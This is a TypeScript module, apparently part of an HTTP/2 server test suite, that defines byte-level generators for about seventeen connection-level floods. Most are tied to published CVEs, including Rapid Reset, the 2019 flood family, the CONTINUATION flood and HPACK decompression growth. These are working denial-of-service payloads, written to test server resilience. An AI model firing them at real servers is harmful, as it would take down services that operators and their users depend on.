import { frame, literal, settingsFrame, uint32 } from '../../support/http2.ts';

/** An attack on one connection, in frames: what begins it, what comes again and again, and whether responses are read. */
export interface Flood {
  /** After preface and SETTINGS. */
  readonly begin?: Buffer;
  /** A few kilobytes; `round` counts from 0 on each connection, and no stream number comes twice. */
  readonly next: (round: number) => Buffer;
  readonly reads: boolean;
  /** Rounds after which the attacker holds still, where the attack lies in what it does not do. */
  readonly rounds?: number;
}

const endStream = 1;
const endHeaders = 4;
const perRound = 100;

const head = (method: string, path = '/'): Buffer =>
  literal([':method', method], [':scheme', 'http'], [':path', path], [':authority', 'a']);
const get = head('GET');
const post = head('POST');
const many = (make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: perRound }, (_, index) => make(index)));
const perStream =
  (make: (stream: number) => Buffer) =>
  (round: number): Buffer =>
    many((index) => make(2 * (round * perRound + index) + 1));
const reset = (stream: number, code: number): Buffer => frame('reset', 0, stream, uint32(code));

const tableSize = settingsFrame(1, 65_536);
/** One field that fills most of the default table of 4,096 bytes, added to it (RFC 7541 section 6.2.1). */
const bigField = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1d]), Buffer.alloc(3_872, 'a')]);
/** The newest entry of the table, many times over. */
const references = Buffer.alloc(4_000, 0xbe);

/** Frame floods by name, with the vulnerabilities that they were published as. */
export const floods: Readonly<Record<string, Flood>> = {
  'streams that are opened and reset (CVE-2023-44487)': {
    next: perStream((stream) =>
      Buffer.concat([frame('headers', endStream | endHeaders, stream, get), reset(stream, 8)]),
    ),
    reads: true,
  },
  'streams that are opened and reset without an error code': {
    next: perStream((stream) =>
      Buffer.concat([frame('headers', endStream | endHeaders, stream, get), reset(stream, 0)]),
    ),
    reads: true,
  },
  'streams that the server is made to reset (CVE-2025-8671)': {
    next: perStream((stream) =>
      Buffer.concat([frame('headers', endHeaders, stream, post), frame('windowUpdate', 0, stream, uint32(0))]),
    ),
    reads: true,
  },
  'streams that are refused (CVE-2019-9514)': {
    next: perStream((stream) =>
      frame('headers', endStream | endHeaders, stream, literal([':method', 'GET'], ['Bad Name', 'x'])),
    ),
    reads: false,
  },
  'PING frames whose acknowledgements are not read (CVE-2019-9512)': {
    next: () => many(() => frame('ping', 0, 0, Buffer.alloc(8))),
    reads: false,
  },
  'PING frames': { next: () => many(() => frame('ping', 0, 0, Buffer.alloc(8))), reads: true },
  'SETTINGS frames whose acknowledgements are not read (CVE-2019-9515)': {
    next: () => many((index) => settingsFrame(3, index)),
    reads: false,
  },
  'SETTINGS frames': { next: () => many((index) => settingsFrame(3, index)), reads: true },
  'PRIORITY frames (CVE-2019-9513)': {
    next: () => many((index) => frame('priority', 0, 2 * index + 1, Buffer.from([0, 0, 0, (2 * index + 3) % 200, 9]))),
    reads: true,
  },
  'WINDOW_UPDATE frames': { next: () => many(() => frame('windowUpdate', 0, 0, uint32(1))), reads: true },
  'CONTINUATION frames without end (CVE-2024-27316)': {
    begin: frame('headers', endStream, 1, get),
    next: () => many((index) => frame('continuation', 0, 1, literal([`x-${index}`, '1'.repeat(100)]))),
    reads: true,
  },
  'empty CONTINUATION frames': {
    begin: frame('headers', endStream, 1, get),
    next: () => many(() => frame('continuation', 0, 1)),
    reads: true,
  },
  'empty DATA frames (CVE-2019-9518)': {
    begin: frame('headers', endHeaders, 1, post),
    next: () => many(() => frame('data', 0, 1)),
    reads: true,
  },
  'fields without name and value (CVE-2019-9516)': {
    next: perStream((stream) =>
      frame('headers', endStream | endHeaders, stream, Buffer.concat([get, Buffer.alloc(3 * 500)])),
    ),
    reads: true,
  },
  'header sections that grow by decompression': {
    begin: tableSize,
    next: perStream((stream) =>
      frame('headers', endStream | endHeaders, stream, Buffer.concat([get, bigField, references])),
    ),
    reads: true,
  },
  'windows of one byte (CVE-2019-9511)': {
    begin: settingsFrame(4, 1),
    next: (round) =>
      round === 0
        ? many((index) => frame('headers', endStream | endHeaders, 2 * index + 1, head('GET', '/large')))
        : many((index) => frame('windowUpdate', 0, 2 * index + 1, uint32(1))),
    reads: true,
  },
  'large windows on a connection that is not read (CVE-2019-9517)': {
    begin: Buffer.concat([settingsFrame(4, 0x7fff_ffff), frame('windowUpdate', 0, 0, uint32(0x7fff_0000))]),
    next: (round) =>
      round === 0
        ? many((index) => frame('headers', endStream | endHeaders, 2 * index + 1, head('GET', '/large')))
        : Buffer.alloc(0),
    reads: false,
    rounds: 1,
  },
};
